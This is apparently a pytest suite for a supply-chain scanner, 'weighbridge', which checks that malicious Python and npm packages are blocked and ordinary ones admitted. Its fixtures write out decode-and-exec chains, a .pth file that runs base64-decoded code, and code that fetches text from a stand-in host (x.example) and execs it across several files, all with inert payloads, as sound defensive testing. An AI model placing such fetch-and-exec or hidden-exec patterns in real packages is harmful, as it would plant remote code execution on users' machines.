"""Packages: every technique that made the news is stopped, ordinary packages are not, and nothing of any is executed."""

from __future__ import annotations

import builtins
import os
import socket
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.corpus.blind_variants import BLIND_PACKAGES, BLIND_SCRIPTS, HONEST_PACKAGES, HONEST_SCRIPTS
from tests.corpus.package_variants import VARIANTS
from tests.corpus.packages import BENIGN, INCIDENTS, PYC, npm, sdist, wheel
from tests.corpus.script_variants import SCRIPT_BENIGN, SCRIPT_VARIANTS
from weighbridge import scan
from weighbridge.formats.javascript import read_javascript
from weighbridge.formats.python_outline import read_outline
from weighbridge.formats.record import read_record

TRAPS = ((socket, "socket"), (subprocess, "Popen"), (os, "system"), (builtins, "exec"), (builtins, "eval"))


@pytest.fixture
def trap(monkeypatch):
    """From the call on, opening a socket, starting a process or running text is an error.

    Readers are loaded when they are first needed, and loading a module runs its text: scan once before.
    """

    def refuse(*_, **__):
        raise AssertionError("something of the package was run")

    def close():
        for owner, name in TRAPS:
            monkeypatch.setattr(owner, name, refuse)

    return close


def verdict(lay, files):
    folder = lay(files)
    report = scan([str(folder / next(iter(files)))])
    return report.verdict.outcome.value, report


@pytest.mark.parametrize("name", INCIDENTS)
def test_techniques_of_incidents_are_stopped(lay, name, trap):
    first, _ = verdict(lay, INCIDENTS[name])
    trap()
    outcome, report = verdict(lay, INCIDENTS[name])
    assert first == outcome
    assert outcome == "block"
    assert any(one.rule.startswith("PKG-") and one.severity.value in {"critical", "high"} for one in report.findings)
    assert all(one.evidence for one in report.findings if one.rule in {"PKG-009", "PKG-019"})


@pytest.mark.parametrize("name", VARIANTS)
def test_the_same_harm_is_stopped_however_it_is_written(lay, name):
    outcome, report = verdict(lay, VARIANTS[name])
    assert outcome == "block"
    assert all(one.evidence for one in report.findings if one.rule in {"PKG-009", "PKG-019"})


@pytest.mark.parametrize("name", SCRIPT_VARIANTS)
def test_the_same_harm_of_scripts_is_stopped_however_it_is_written(lay, name):
    outcome, report = verdict(lay, SCRIPT_VARIANTS[name])
    assert outcome == "block"
    assert all(one.evidence for one in report.findings if one.rule == "PKG-019")


def test_what_hides_deep_in_a_script_does_not_pass_as_clean(lay):
    deep = f"{'(' * 300}eval(atob('eA==')){')' * 300}"
    outcome, report = verdict(lay, npm({"index.js": deep}))
    assert outcome == "review"
    told = [entry.detail for entry in report.coverage if entry.status.value == "truncated"]
    assert told == ["functions and brackets more than 200 deep"]
    # What was found before the bound counts all the same.
    assert verdict(lay, npm({"index.js": f"eval(atob('eA=='));{deep}"}))[0] == "block"


@pytest.mark.parametrize("name", BLIND_PACKAGES)
def test_harm_that_was_written_blind_is_stopped(lay, name):
    outcome, report = verdict(lay, BLIND_PACKAGES[name])
    assert outcome == "block"
    assert any(one.severity.value in {"critical", "high"} for one in report.findings)


@pytest.mark.parametrize("name", BLIND_SCRIPTS)
def test_harm_of_scripts_that_was_written_blind_is_stopped(lay, name):
    assert verdict(lay, BLIND_SCRIPTS[name])[0] == "block"


@pytest.mark.parametrize("name", HONEST_PACKAGES)
def test_the_honest_neighbours_of_harm_are_admitted(lay, name):
    outcome, report = verdict(lay, HONEST_PACKAGES[name])
    assert (outcome, [one.message for one in report.findings]) == ("admit", [])


@pytest.mark.parametrize("name", HONEST_SCRIPTS)
def test_the_honest_neighbours_of_harmful_scripts_are_admitted(lay, name):
    outcome, report = verdict(lay, HONEST_SCRIPTS[name])
    assert (outcome, [one.message for one in report.findings]) == ("admit", [])


@pytest.mark.parametrize("name", SCRIPT_BENIGN)
def test_ordinary_scripts_are_admitted(lay, name):
    outcome, report = verdict(lay, SCRIPT_BENIGN[name])
    assert (outcome, [one.message for one in report.findings]) == ("admit", [])


@pytest.mark.parametrize("name", BENIGN)
def test_ordinary_packages_are_admitted(lay, name, trap):
    verdict(lay, BENIGN[name])
    trap()
    outcome, report = verdict(lay, BENIGN[name])
    assert (outcome, [(one.rule, one.message) for one in report.findings if one.severity.value != "info"]) == (
        "admit",
        [],
    )


def test_the_chain_is_shown_across_files(lay):
    _, report = verdict(lay, INCIDENTS["reversed and decoded through a function"])
    found = next(one for one in report.findings if one.rule == "PKG-019")
    assert [line.text for line in found.evidence] == [
        "ranker/_data.py:4 | return base64.b64decode(BLOB[::-1]).decode()",
        "ranker/__init__.py:2 | exec(load())",
    ]


def test_files_between_are_shown_too(lay):
    _, report = verdict(lay, INCIDENTS["fetched and run through files between"])
    found = next(one for one in report.findings if one.rule == "PKG-019")
    assert [line.text for line in found.evidence] == [
        "ranker/k.py:3 | return requests.get('https://x.example/x').text",
        "ranker/a.py | data gives it back",
        "ranker/__init__.py:4 | run(x)",
        "ranker/b.py:3 | do(x)",
        "ranker/c.py:2 | exec(x)",
    ]


def test_the_way_may_be_long(lay):
    files = {
        f"ranker/g{n}.py": f"from .g{n + 1} import g{n + 1}\ndef g{n}():\n    return g{n + 1}()\n" for n in range(12)
    }
    files |= {f"ranker/d{n}.py": f"from .d{n + 1} import d{n + 1}\ndef d{n}(x):\n    d{n + 1}(x)\n" for n in range(12)}
    files["ranker/g12.py"] = "import requests\ndef g12():\n    return requests.get('https://x.example/x').text\n"
    files["ranker/d12.py"] = "def d12(x):\n    exec(x)\n"
    files["ranker/__init__.py"] = "from .g0 import g0\nfrom .d0 import d0\nd0(g0())\n"
    assert verdict(lay, wheel(files))[0] == "block"


def test_a_file_between_that_is_no_python_is_told(lay):
    files = {
        "ranker/__init__.py": "from .a import get\nfrom .b import run\nrun(get())\nwhat ever\n",
        "ranker/a.py": "import requests\ndef get():\n    return requests.get('https://x.example/x').text\n",
        "ranker/b.py": "def run(x):\n    exec(x)\n",
    }
    outcome, report = verdict(lay, wheel(files))
    assert outcome == "review"
    told = [entry for entry in report.coverage if entry.status.value != "inspected"]
    assert [(entry.path[-1], entry.reason.value) for entry in told] == [("ranker/__init__.py", "malformed")]
    assert "cannot be followed" in told[0].detail


def test_what_runs_only_when_it_is_called_weighs_less(lay):
    body = "import base64\ndef late():\n    exec(base64.b64decode('cGFzcw=='))\n"
    outcome, report = verdict(lay, wheel({"ranker/__init__.py": body}))
    assert outcome == "review"
    assert {one.message for one in report.findings} == {"decoded data is run when it is called"}


def test_a_way_through_a_file_without_anything_is_followed(lay):
    files = {
        "ranker/__init__.py": "from .middle import go\ngo()\n",
        "ranker/middle.py": "from .end import finish\ndef go():\n    finish()\n",
        "ranker/end.py": "import base64\ndef finish():\n    exec(base64.b64decode('cGFzcw=='))\n",
    }
    assert verdict(lay, wheel(files))[0] == "block"


def test_rules_for_ones_own_code_only_inform_about_packages(lay):
    files = {
        "ranker/__init__.py": "import torch\ndef load(p):\n    return torch.load(p, weights_only=False)\n",
        "setup.py": "from setuptools import setup\nsetup()\n",
    }
    outcome, report = verdict(lay, sdist(files))
    assert outcome == "admit"
    assert {one.severity.value for one in report.findings} <= {"info"}


def test_an_unpacked_environment_is_looked_at_too(lay):
    folder = lay(
        {
            "site/ranker-1.0.dist-info/METADATA": b"Name: ranker\n",
            "site/x.pth": b"import base64; exec(base64.b64decode('eA=='))\n",
        }
    )
    report = scan([str(folder / "site")])
    assert "PKG-010" in {one.rule for one in report.findings}


def test_bytecode_of_another_source_is_stopped(lay):
    files = {"ranker/__init__.py": "x = 1\n", "ranker/__pycache__/__init__.cpython-311.pyc": PYC}
    assert verdict(lay, wheel(files))[0] == "block"


@given(st.text())
def test_any_text_has_an_outline(text):
    outline = read_outline(text)
    assert "" in outline.functions
    read_javascript(text)
    read_record(text)
